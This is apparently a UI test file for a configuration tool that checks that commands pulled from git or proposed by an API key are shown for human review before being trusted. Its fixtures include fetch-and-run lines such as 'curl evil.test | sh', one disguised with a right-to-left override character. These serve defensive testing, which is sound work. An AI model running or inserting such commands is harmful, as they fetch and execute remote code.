import { expect, test } from "vitest";
import { describeScreen, openScreen, poll, reads } from "../helpers/screen.ts";

const running = (ready: string) => ({ svc: { timeout: 30, services: { web: { ready, image: "node:24" } } } });

describeScreen("a command pulled with git", () => {
  test("is shown next to the active value, and can be trusted only after that, and only the value that was shown", async () => {
    const window = await openScreen({}, { clones: { site: running("curl evil.test \u202e| sh") } });
    const { screen, page } = window;
    await window.choose("site");
    const note = page.getByRole("complementary", { name: "Problems with the file" });
    await reads(note, "is in the file and tells tools what to run.");
    const [show, trust] = [/^Show ?: svc.services$/, /^Trust this value ?: svc.services$/].map(name =>
      note.getByRole("button", { name }),
    );
    // A value that was not shown cannot be trusted.
    expect(await trust?.getAttribute("aria-disabled")).toBe("true");
    await show?.click();
    const said = note.getByRole("figure", { name: "In the file" });
    await reads(said, "curl evil.test \\u202e| sh");
    await reads(note.getByRole("figure", { name: "Active" }), "{}");

    // The value changes before the button is pressed.
    await screen.pull("site", running("curl other.test | sh"));
    await trust?.click();
    await reads(window.messages, "is no longer waiting for trust");
    expect(await screen.stored("site", "svc.services")).toBeUndefined();

    // The field has the same buttons.
    const field = window.field("Services");
    await field.getByRole("button", { name: /^Show ?: svc.services$/ }).click();
    await reads(field.getByRole("figure", { name: "In the file" }), "other.test");
    await field.getByRole("button", { name: /^Trust this value ?: svc.services$/ }).click();
    await poll(() => screen.stored("site", "svc.services")).toMatchObject({ web: { ready: "curl other.test | sh" } });
    await note.waitFor({ state: "detached" });
    await window.expand("Services");
    await poll(() => field.getByRole("textbox", { name: "Ready" }).inputValue()).toBe("curl other.test | sh");
  });

  test("that becomes an environment variable is shown with the variable", async () => {
    const path = { title: "Tools", type: "string", default: "", "x-env": "TOOLS" };
    const clones = { site: { tools: { path: "./evil" } } };
    const window = await openScreen({}, { scopes: { tools: { type: "object", properties: { path } } }, clones });
    const { screen, page } = window;
    const waiting = page.getByRole("listitem").filter({ has: page.getByText("tools.path", { exact: true }) });
    await reads(waiting, "is in the file and becomes the environment variable TOOLS.");
    const [show, trust] = [/^Show ?: tools.path$/, /^Trust this value ?: tools.path$/].map(name =>
      waiting.getByRole("button", { name }),
    );
    await show?.click();
    await reads(waiting, "Once it is trusted, this value becomes the environment variable TOOLS.");
    await reads(waiting.getByRole("figure", { name: "In the file" }), "./evil");
    await trust?.click();
    await poll(() => screen.stored("site", "tools.path")).toBe("./evil");
  });
});

describeScreen("a command that a key proposes", () => {
  const everything = [{ repos: "*" as const, fields: ["*"], right: "write" as const }];

  test("is shown next to the active value in the overview and its repository, and is set only after that, as it was shown", async () => {
    const { screen, page, messages, choose } = await openScreen({ shop: {} });
    const tool = await screen.t.connectWith(everything, "agent", []);
    const propose = (ready: string) =>
      tool.call("config/set", {
        repo: "shop",
        "svc.services": { web: { ready, image: "node:24" } },
        reason: "for tests",
      });
    const item = page.getByRole("listitem").filter({ has: page.getByText("svc.services", { exact: true }) });
    await propose("curl one.test");
    await reads(item, /Proposed by the key agent, .*: for tests/);
    const button = (name: string) => item.getByRole("button", { name: new RegExp(`^${name} ?: svc.services$`) });
    expect(await button("Set this value").getAttribute("aria-disabled")).toBe("true");
    await button("Show").click();
    await reads(item, "Once it is set, this value tells tools what to run.");
    const proposed = item.getByRole("figure", { name: "Proposed" });
    await reads(proposed, "curl one.test");
    // Each character is shown: no two of them as one.
    const ligatures = await proposed.locator("pre").evaluate(element => {
      const style = element.ownerDocument.defaultView?.getComputedStyle(element);
      return style?.getPropertyValue("font-variant-ligatures");
    });
    expect(ligatures).toBe("none");

    // It is another one before the button is pressed.
    await propose("curl two.test");
    await button("Set this value").click();
    await reads(messages, "is not what you reviewed");
    expect(await screen.stored("shop", "svc.services")).toBeUndefined();

    await choose("shop");
    await reads(page.getByRole("complementary", { name: "Proposed by keys" }), "svc.services");
    await button("Show").click();
    await reads(item.getByRole("figure", { name: "Proposed" }), "curl two.test");
    await button("Set this value").click();
    await poll(() => screen.stored("shop", "svc.services")).toMatchObject({ web: { ready: "curl two.test" } });
    await item.waitFor({ state: "detached" });

    await propose("curl three.test");
    await button("Decline").click();
    await item.waitFor({ state: "detached" });
    expect((await tool.call("proposal/list")).result).toEqual([]);
  });
});
